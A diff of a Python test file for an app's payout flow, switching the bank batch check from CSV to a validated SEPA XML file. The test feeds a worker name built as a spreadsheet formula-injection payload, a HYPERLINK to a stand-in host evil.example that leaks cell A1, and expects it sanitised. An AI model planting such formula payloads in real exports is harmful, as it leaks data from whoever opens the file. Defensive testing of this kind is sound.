@@ -2,8 +2,6 @@
 
 from __future__ import annotations
 
-import csv
-import io
 import subprocess
 import sys
 import uuid
@@ -18,10 +16,12 @@ from sqlmodel import select, update
 from fieldcheck.assignments.models import Assignment
 from fieldcheck.auth.models import Role
 from fieldcheck.ledger.models import LedgerEntry, LedgerTransaction, Movement, Payout
-from fieldcheck.ledger.providers import PayoutOrder, PayoutResult
+from fieldcheck.ledger.providers import DEMO_DEBTOR, PayoutOrder, PayoutResult
 from fieldcheck.money import verify_money
 from fieldcheck.settings import Settings
+from tests.support import sepa
 from tests.support.factories import deposit, make_account, make_campaign, make_store, problem, runtime_of
+from tests.support.sepa import schema_errors
 from tests.support.submissions import Field, checked, submit, upload
 
 IBAN = "FR7630006000011234567890189"
@@ -216,7 +216,7 @@ def test_payouts_from_request_to_bank_file(app_client: Any) -> None:
         headers=worker.headers,
     )
     problem(bad, 422, "invalid_iban")
-    # The holder's name is the worker's own text: it must not run as a formula in the bank file.
+    # The holder's name is the worker's own text: it must reach the bank file as plain text.
     good = app_client.put(
         "/api/v1/me/payout-details",
         json={"account_holder": FORMULA_HOLDER, "iban": IBAN},
@@ -253,17 +253,24 @@ def test_payouts_from_request_to_bank_file(app_client: Any) -> None:
     }
     with runtime.db.transaction(read_only=True) as session:
         payout = session.exec(select(Payout)).one()
-    rows = list(csv.DictReader(io.StringIO(runtime.storage.get_bytes(payout.batch_key or "").decode())))
-    assert rows == [
-        {
-            "end_to_end_id": str(payout.id),
-            "creditor_name": "'" + FORMULA_HOLDER,
-            "creditor_iban": IBAN,
-            "amount": "20.00",
-            "currency": "EUR",
-            "remittance": f"fieldcheck payout {str(payout.id)[:8]}",
-        }
+    assert payout.batch_key and payout.batch_key.endswith(".xml")
+    document = runtime.storage.get_bytes(payout.batch_key)
+    # The embedded default writes pain.001.001.09 from the demo debtor, and the file is valid.
+    assert schema_errors(document, "pain.001.001.09") == []
+    written = sepa.read(document)
+    assert (written.debtor_name, written.debtor_iban) == (DEMO_DEBTOR.name, DEMO_DEBTOR.iban)
+    assert written.transactions == [
+        sepa.Transaction(
+            end_to_end_id=payout.id.hex,
+            # The holder's name is the worker's text: only the SEPA character set reaches the bank.
+            creditor_name="HYPERLINK( http://evil.example/?leak A1, Ana Worker )",
+            creditor_iban=IBAN,
+            amount_cents=2_000,
+            currency="EUR",
+            remittance=f"fieldcheck payout {payout.id.hex[:8]}",
+        )
     ]
+    assert (written.count, written.control_sum_cents) == (1, 2_000)
     ledger_ok(app_client)
 
 
